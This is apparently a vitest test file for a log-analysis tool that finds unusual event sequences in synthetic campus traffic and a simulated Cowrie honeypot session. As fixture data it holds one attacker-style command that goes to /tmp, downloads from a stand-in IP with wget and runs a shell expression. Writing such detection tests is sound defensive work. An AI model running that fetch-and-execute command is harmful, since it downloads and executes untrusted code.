import {mkdtempSync, rmSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {type Database, openDatabase} from "../../../data-loaders/database.js";
import {evaluateSequences} from "../../../data-loaders/evaluate/events/evaluate-sequences.js";
import {type FoundSequences, findSequences} from "../../../src/engine/analysis/detect/find-sequences.js";
import {readSequences} from "../../../src/engine/analysis/detect/read-sequences.js";
import {selectPublishedSequences} from "../../../src/engine/detect/sequences/publish-queries.js";
import {sequences} from "../../../src/engine/tables/sequences.js";

const directory = mkdtempSync(join(tmpdir(), "flowbook-test-"));
const silent = {stage() {}, update() {}, end() {}};
const databases: Database[] = [];
afterAll(() => {
  for (const database of databases) database.close();
  rmSync(directory, {recursive: true, force: true});
});

const columns =
  "seq, event_time, dataset, event_type, source_ip, attacker_ip, username, sensor, session, label, attack_type, service, destination_port, protocol, bytes_received, http_status, command";

/**
 * Four days on which twenty hosts of the campus look up names and fetch pages, hour by hour; one of them once does so the other way
 * round and to ports that nobody uses; and a honeypot with one visitor who types.
 */
async function open(threads: number): Promise<Database> {
  const database = await openDatabase(directory, threads);
  databases.push(database);
  await database.run(`
    CREATE TABLE events AS
    WITH visits AS (
      SELECT h, hour, (h * 24 * 4 + hour) % 7 AS pages FROM range(20) hosts(h), range(96) hours(hour)
    ),
    steps AS (
      SELECT h, hour, step, CASE WHEN step = 0 THEN 'dns' WHEN step % 2 = 1 THEN 'http' ELSE 'flow' END AS event_type
      FROM visits, range(8) steps(step) WHERE step <= 2 + pages
      UNION ALL
      SELECT 3, 90, 100 + k, CASE WHEN k % 3 = 0 THEN 'smb' WHEN k % 3 = 1 THEN 'flow' ELSE 'dns' END FROM range(30) odd(k)
    )
    SELECT TIMESTAMP '2026-03-02' + to_minutes((60 * hour)::INTEGER) + to_seconds((step * 10 + h)::INTEGER) AS event_time,
      'suricata' AS dataset, event_type, '10.0.0.' || h AS source_ip, '10.0.0.' || h AS attacker_ip,
      NULL::VARCHAR AS username, 'sensor' AS sensor, NULL::VARCHAR AS session, NULL::VARCHAR AS label, NULL::VARCHAR AS attack_type,
      CASE WHEN event_type = 'flow' THEN 'HTTPS' END AS service,
      CASE WHEN event_type = 'flow' THEN CASE WHEN step >= 100 THEN 1000 + step ELSE 443 + 357 * (step // 2 % 2) END END::INTEGER AS destination_port,
      'TCP' AS protocol, 100::BIGINT AS bytes_received, CASE WHEN event_type = 'http' THEN 200 END::INTEGER AS http_status,
      NULL::VARCHAR AS command
    FROM steps
    UNION ALL
    SELECT TIMESTAMP '2026-03-03' + to_seconds(k::INTEGER), 'cowrie', kind, '203.0.113.9', '203.0.113.9', 'root', 'trap', 's1', 'Attack',
      CASE WHEN kind LIKE '%download' THEN 'Malware' ELSE 'Command Execution' END, 'SSH', 22, 'TCP', NULL, NULL,
      CASE WHEN kind LIKE '%input' THEN 'cd /tmp; wget http://198.51.100.1/' || repeat('x', 100) || '; sh ''$(x) <b>''' END
    FROM (VALUES (0, 'cowrie.session.connect'), (1, 'cowrie.command.input'), (2, 'cowrie.command.failed'),
      (3, 'cowrie.session.file_download')) visit(k, kind)
  `);
  await database.run(`
    CREATE VIEW logs AS SELECT ${columns.replace("seq, ", "seq::INTEGER AS seq, ")}, lpad(seq::VARCHAR, 16, '0') AS event_id,
      NULL::BIGINT AS packets_received, NULL::VARCHAR AS dns_rcode
    FROM (SELECT *, row_number() OVER (ORDER BY event_time, source_ip, event_type) - 1 AS seq FROM events)
  `);
  await database.run(`
    CREATE TABLE evidence AS
    SELECT seq, 'honeypot' AS detector, '1' AS rule, 'File delivered' AS finding, 'why' AS reason, 'T1105' AS technique, 2 AS level
    FROM logs WHERE event_type = 'cowrie.session.file_download'
    UNION ALL
    SELECT seq, 'sigma', 'r', 'Odd', 'why', 'T1021.002', 3 FROM logs WHERE source_ip = '10.0.0.3' AND event_type = 'smb'
  `);
  await database.run(
    "CREATE TABLE places AS SELECT DISTINCT source_ip AS address, CASE WHEN source_ip LIKE '10.%' THEN 'Campus' END AS site FROM logs"
  );
  return database;
}

describe("findSequences", () => {
  let database: Database;
  let found: readonly FoundSequences[];
  beforeAll(async () => {
    database = await open(2);
    found = await findSequences(database, {seed: 1}, silent);
  }, 60_000);

  it("judges commands per visit, and events and ports per source and hour", () => {
    expect(found.map(({kind, sequences}) => [kind, sequences])).toEqual([
      ["commands", 1],
      ["events", 20 * 96 + 1],
      ["ports", expect.any(Number)]
    ]);
  });

  it("raises the hour in which a host did other things in another order, and hardly anything else", async () => {
    const raised = await database.rows("SELECT * FROM sequences WHERE level > 0 AND kind = 'events'");
    expect(raised.some(row => row.source_ip === "10.0.0.3" && row.length === 33)).toBe(true);
    expect(raised.length).toBeLessThan(8);
    const evidence = await database.rows("SELECT * FROM evidence WHERE detector = 'sequence'");
    expect(evidence.length).toBeGreaterThan(0);
    for (const {level, finding, reason} of evidence) {
      expect(Number(level)).toBeGreaterThan(0);
      expect(finding).toMatch(/^Unusual /);
      expect(reason).toMatch(/the least expected is .*\.$/);
    }
    const [once] = await database.rows(
      "SELECT count(*) = count(DISTINCT (seq, detector, rule)) AS once FROM evidence WHERE detector = 'sequence'"
    );
    expect(once?.once).toBe(true);
  });

  it("publishes a honeypot's commands as they were typed, cut to 80 characters", async () => {
    const [row] = await database.rows("SELECT * FROM sequences WHERE kind = 'commands'");
    expect(row).toMatchObject({
      session: "s1",
      basis: "same kind",
      steps: "cd <path> › wget <url> › sh <expression>",
      challenger_score: null,
      level: 0
    });
    expect(String(row?.worst_step)).toHaveLength(80);
    expect(String(row?.worst_step)).toMatch(/^cd \/tmp; wget http/);
  });

  it("takes what Cowrie reports twice for one command", async () => {
    const set = await readSequences(database, "commands");
    expect(set?.tokens.length).toBe(3);
  });

  it("labels sequences by rules of high level and by what a honeypot says", async () => {
    const set = await readSequences(database, "events");
    const weak = Array.from(set?.weakType ?? [], type => set?.types[type]);
    expect(weak.filter(type => type === "Lateral Movement")).toHaveLength(1);
    expect(weak.filter(type => type === "Malware")).toHaveLength(1);
    expect(weak.filter(type => type === "Normal")).toHaveLength(20 * 96 - 1);
    // Of a source that a rule calls suspicious, no hour teaches what is usual.
    expect(set?.reference.reduce((sum, mark) => sum + mark, 0)).toBe(19 * 96);
  });

  it("publishes the columns of its schema, in a total order, the same on any number of threads", async () => {
    const published = await database.rows(selectPublishedSequences);
    expect(Object.keys(published[0] ?? {})).toEqual(sequences.columns.map(({name}) => name));
    const other = await open(1);
    await findSequences(other, {seed: 1}, silent);
    expect(await other.rows(selectPublishedSequences)).toEqual(published);
    const keys = published.map(row => sequences.key.map(name => row[name]).join("|"));
    expect(new Set(keys).size).toBe(keys.length);
  });

  it("finds nothing in logs without events", async () => {
    const empty = await open(1);
    await empty.run("DELETE FROM events");
    expect(await findSequences(empty, {seed: 1}, silent)).toEqual([]);
    expect(await empty.rows(selectPublishedSequences)).toEqual([]);
  });

  it("is judged by the truth, each kind by itself", async () => {
    await database.run(
      "CREATE TABLE truth AS SELECT seq, 'Lateral Movement' AS attack_type FROM logs WHERE event_type = 'smb'"
    );
    const {kinds, rows} = await evaluateSequences(database, 1, silent, 20);
    expect(kinds.map(({kind, attacks}) => [kind, attacks])).toEqual([
      ["commands", 0],
      ["events", 1],
      ["ports", 0]
    ]);
    const events = kinds.find(({kind}) => kind === "events");
    expect(events?.ngram?.value).toBeGreaterThan(0.1);
    // One labelled hour is too few to train a network on.
    expect(events).toMatchObject({gru: null, chosen: "ngram"});
    expect(rows.some(({slice, measure}) => slice === "events" && measure === "pr_auc")).toBe(true);
  });
});
